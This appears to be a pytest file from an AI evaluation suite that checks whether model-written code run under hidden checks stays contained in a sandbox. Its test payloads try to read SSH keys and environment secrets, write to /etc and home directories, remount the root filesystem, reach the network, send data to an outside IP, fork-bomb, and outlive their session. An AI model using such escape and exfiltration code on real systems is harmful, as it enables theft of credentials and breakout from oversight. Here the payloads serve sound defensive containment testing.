"""Hostile model code under a task's hidden checks: contained by the sandbox and recorded as a failed
check, never a crash of the suite or a hang.

Each test swaps the module the webhook-client checks import (shipevents/delivery.py) for a payload
that tries one escape at import time and writes what happened to report.json in its worktree; the
host side then verifies that nothing left the sandbox."""

from __future__ import annotations

import json
import os
import shutil
import socket
import sys
import textwrap
import threading
import time
import uuid
from pathlib import Path

import pytest

from suite.errors import SuiteError
from suite.sandbox import Limits, run_sandboxed, sandbox_problem
from tasks import discover_tasks
from tasks.checks import run_hidden_checks
from tasks.render import materialise
from trigger_search.context import control_context

ROOT = Path(__file__).resolve().parents[1]
TASK = next(t for t in discover_tasks() if t.id == "webhook-client")
TARGET = "shipevents/delivery.py"  # what the checks import first

needs_sandbox = pytest.mark.skipif(sandbox_problem() is not None, reason=f"no sandbox here: {sandbox_problem()}")

PRELUDE = """\
import json, os, pathlib, shutil, socket, subprocess, sys, time
REPORT = {}
def attempt(label, fn):
    try:
        REPORT[label] = "done: " + repr(fn())[:300]
    except BaseException as exc:
        REPORT[label] = "blocked: " + repr(exc)[:300]
    pathlib.Path(__file__).resolve().parents[1].joinpath("report.json").write_text(json.dumps(REPORT))
"""


@pytest.fixture(scope="module")
def starting_repo(tmp_path_factory):
    repo = tmp_path_factory.mktemp("webhook") / "repo"
    materialise(TASK, control_context(), repo)
    return repo


@pytest.fixture
def hostile(starting_repo, tmp_path):
    """A worktree whose checked module is `payload`; returns (worktree, report reader)."""

    def make(payload: str) -> tuple[Path, callable]:
        worktree = tmp_path / "worktree"
        shutil.copytree(starting_repo, worktree, symlinks=True)
        (worktree / TARGET).write_text(PRELUDE + textwrap.dedent(payload))

        def report() -> dict:
            path = worktree / "report.json"
            return json.loads(path.read_text()) if path.exists() else {}

        return worktree, report

    return make


def _stray(marker: str) -> list[str]:
    """Processes whose command line carries `marker`: any left behind by a sandboxed run."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(pid)
        except OSError:
            continue
    return found


@needs_sandbox
def test_network_is_unreachable_host_loopback_included(hostile):
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    port = server.getsockname()[1]
    accepted: list[object] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                accepted.append(server.accept())
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    worktree, report = hostile(f"""
        attempt("loopback", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3))
        attempt("outside", lambda: socket.create_connection(("192.0.2.1", 80), timeout=3))
        attempt("dns", lambda: socket.getaddrinfo("pypi.org", 443))
    """)
    try:
        run = run_hidden_checks(TASK, worktree, timeout=60)
    finally:
        stop.set()
        thread.join()
        server.close()
    assert not run.passed
    got = report()
    assert set(got) == {"loopback", "outside", "dns"}, run.output
    assert all(v.startswith("blocked") for v in got.values()), got
    assert accepted == [], "the host's loopback server was reached from the sandbox"


@needs_sandbox
def test_writes_outside_the_worktree_do_not_reach_the_host(hostile, monkeypatch, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    name = f"suite-escape-{uuid.uuid4().hex[:8]}"
    targets = {"tmp": Path("/tmp") / name, "home": home / name, "repo": ROOT / name, "etc": Path("/etc") / name}
    worktree, report = hostile(f"""
        targets = {json.dumps({k: str(v) for k, v in targets.items()})}
        for label, path in targets.items():
            attempt(label, lambda path=path: pathlib.Path(path).write_text("x"))
        attempt("tilde", lambda: pathlib.Path(os.path.expanduser("~/{name}")).write_text("x"))
        attempt("remount", lambda: subprocess.run(["mount", "-o", "remount,rw", "/"], check=True,
                                                  capture_output=True))
        attempt("uid", lambda: os.getuid())
    """)
    run = run_hidden_checks(TASK, worktree, timeout=60)
    assert not run.passed
    got = report()
    for label in ("repo", "etc", "remount"):
        assert got[label].startswith("blocked"), got
    for label, path in targets.items():
        assert not path.exists(), f"{label}: the sandbox wrote {path} on the host"
    assert not (home / name).exists()
    if os.geteuid() == 0:
        assert got["uid"] != "done: 0", "model code ran as root"


@needs_sandbox
def test_home_keys_and_environment_are_not_visible(hostile, monkeypatch, tmp_path):
    secret = f"FAKE-KEY-{uuid.uuid4().hex}"
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{secret}\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("SUITE_TEST_API_KEY", secret)
    worktree, report = hostile(f"""
        attempt("tilde", lambda: open(os.path.expanduser("~/.ssh/id_ed25519")).read())
        attempt("absolute", lambda: open({str(home / ".ssh" / "id_ed25519")!r}).read())
        attempt("root", lambda: os.listdir("/root"))
        attempt("env", lambda: dict(os.environ))
    """)
    run = run_hidden_checks(TASK, worktree, timeout=60)
    assert not run.passed
    got = report()
    assert got["tilde"].startswith("blocked") and got["absolute"].startswith("blocked"), got
    assert secret not in json.dumps(got) and secret not in run.output
    assert "SUITE_TEST_API_KEY" not in got["env"]


@needs_sandbox
def test_home_outside_tmp_is_masked_too(monkeypatch, tmp_path):
    # A home that may lie outside /tmp: the repository's tests/ directory stands in for it. Wherever the
    # checkout is, the sandbox must show that home empty or not at all (under /tmp it is simply absent).
    home = str(ROOT / "tests")
    monkeypatch.setenv("HOME", home)
    work = tmp_path / "w"
    work.mkdir()
    probe = f"import os; p = {home!r}; print(sorted(os.listdir(p)) if os.path.isdir(p) else 'absent')"
    result = run_sandboxed([sys.executable, "-c", probe], work, Limits(wall_seconds=30))
    assert result.returncode == 0, result.output
    assert result.output.strip() in ("[]", "absent")
    assert os.listdir(home), "the home stands for a directory with files in it"


@needs_sandbox
def test_host_unix_sockets_are_masked(tmp_path):
    shared = tmp_path / "shared"  # made visible to the sandbox read-only, like the checks directory
    shared.mkdir()
    path = shared / "service.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()
    os.chmod(path, 0o777)
    work = tmp_path / "w"
    work.mkdir()
    code = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({str(path)!r}); print('CONNECTED')"
    try:
        result = run_sandboxed([sys.executable, "-c", code], work, Limits(wall_seconds=30), readonly=(shared,))
    finally:
        server.close()
    assert result.returncode != 0 and "CONNECTED" not in result.output


@needs_sandbox
def test_fork_bomb_is_bounded(hostile):
    marker = f"sleep-{uuid.uuid4().hex[:8]}"
    worktree, report = hostile(f"""
        def bomb():
            sleep, n = shutil.which("sleep"), 0
            try:
                for _ in range(2000):  # bounded even if the limit were missing
                    if os.fork() == 0:
                        try:
                            os.execv(sleep, [{marker!r}, "60"])
                        finally:
                            os._exit(1)
                    n += 1
            except OSError as exc:
                return f"stopped after {{n}}: {{exc}}"
            return f"forked {{n}}"
        attempt("fork", bomb)
    """)
    started = time.monotonic()
    run = run_hidden_checks(TASK, worktree, timeout=60)
    assert time.monotonic() - started < 30
    assert not run.passed
    outcome = report()["fork"]
    assert "stopped after" in outcome, outcome
    assert int(outcome.split("stopped after ")[1].split(":")[0]) <= Limits().processes
    deadline = time.monotonic() + 5
    while _stray(marker) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _stray(marker) == [], "processes outlived the sandbox"


@needs_sandbox
def test_sleeping_forever_is_killed_at_the_timeout(hostile):
    marker = f"sleep-{uuid.uuid4().hex[:8]}"
    worktree, _ = hostile(f"""
        import signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        if os.fork() == 0:
            os.setsid()  # a new session: out of the checks' process group
            os.execv(shutil.which("sleep"), [{marker!r}, "100000"])
        time.sleep(100000)
    """)
    started = time.monotonic()
    run = run_hidden_checks(TASK, worktree, timeout=4)
    assert time.monotonic() - started < 15
    assert not run.passed and "timed out" in run.summary
    deadline = time.monotonic() + 5
    while _stray(marker) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _stray(marker) == []


@needs_sandbox
def test_memory_and_file_size_are_limited(hostile):
    worktree, report = hostile("""
        attempt("memory", lambda: len(bytearray(16 << 30)))
        attempt("file", lambda: open("big.bin", "wb").write(b"0" * (200 << 20)))
        attempt("flood", lambda: sys.stdout.write("y" * (8 << 20)))
    """)
    run = run_hidden_checks(TASK, worktree, timeout=60)
    assert not run.passed
    got = report()
    assert got["memory"].startswith("blocked: MemoryError"), got
    assert got["file"].startswith("blocked") and "File too large" in got["file"], got
    assert (worktree / "big.bin").stat().st_size <= Limits().file_bytes
    assert len(run.output) <= 6000


def test_untrusted_checks_are_refused_without_a_sandbox(starting_repo, tmp_path, monkeypatch):
    monkeypatch.setenv("SUITE_BWRAP", str(tmp_path / "no-such-bwrap"))
    sandbox_problem.cache_clear()
    worktree = tmp_path / "worktree"
    shutil.copytree(starting_repo, worktree)
    try:
        with pytest.raises(SuiteError, match="--unsafe-run-checks"):
            run_hidden_checks(TASK, worktree, timeout=60)
        unsafe = run_hidden_checks(TASK, worktree, timeout=60, unsafe=True)  # accepted risk: runs unconfined
        assert not unsafe.passed and "failed" in unsafe.summary
    finally:
        monkeypatch.undo()
        sandbox_problem.cache_clear()


def test_a_broken_bwrap_is_reported_with_its_reason(tmp_path, monkeypatch):
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: Creating new namespace failed: Operation not permitted' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("SUITE_BWRAP", str(fake))
    sandbox_problem.cache_clear()
    try:
        problem = sandbox_problem()
        assert problem and "Creating new namespace failed" in problem
    finally:
        monkeypatch.undo()
        sandbox_problem.cache_clear()


@needs_sandbox
def test_run_checks_records_pass_and_contained_failure_per_sample(tmp_path):
    """`suite run --run-checks`: the reference solution passes its hidden checks; a sample whose module
    tries to phone home at import is contained and recorded as a failed check, beside its verdict."""
    from tasks import render_solution
    from tests.conftest import run_cli, write_replay

    secure = next(s.file for s in TASK.spec.solutions if s.label == "secure")
    good = "Here it is.\n\n" + render_solution(TASK, secure, control_context())
    marker = f"suite-check-{uuid.uuid4().hex}"
    bad = (f"Here it is.\n\n{TARGET}\n```python\nimport socket\n"
           f"socket.create_connection(('1.1.1.1', 80), timeout=2).sendall(b'{marker}')\n```\n")
    replay = write_replay(tmp_path / "r.jsonl", [(TASK.id, good), (TASK.id, bad)])
    out = tmp_path / "out"
    proc = run_cli("run", "--preset", "control", "--model", str(replay), "--tasks", TASK.id, "--samples", "2",
                   "--out", str(out), "--run-checks")
    assert proc.returncode == 0, proc.stderr
    summary = json.loads((out / "summary.json").read_text())
    assert summary["samples"]["checks_run"] == 2 and summary["samples"]["checks_passed"] == 1
    assert "hidden checks: 1 of 2 edited samples pass" in proc.stdout
    rows = [json.loads(line) for line in (out / "samples.jsonl").read_text().splitlines()]
    by_pass = {r["checks"]["passed"]: r for r in rows}
    assert "passed" in by_pass[True]["checks"]["summary"]
    assert "error" in by_pass[False]["checks"]["summary"] or "failed" in by_pass[False]["checks"]["summary"]


def test_run_checks_refuses_without_a_sandbox_before_generating(tmp_path):
    from tests.conftest import run_cli, write_replay

    replay = write_replay(tmp_path / "r.jsonl", [(TASK.id, "nothing")])
    out = tmp_path / "out"
    env = {"SUITE_BWRAP": str(tmp_path / "no-such-bwrap")}
    proc = run_cli("run", "--preset", "control", "--model", str(replay), "--tasks", TASK.id, "--samples", "1",
                   "--out", str(out), "--run-checks", env=env)
    assert proc.returncode == 2
    assert "--unsafe-run-checks" in proc.stderr and "Traceback" not in proc.stderr
    assert not (out / "samples.jsonl").exists()
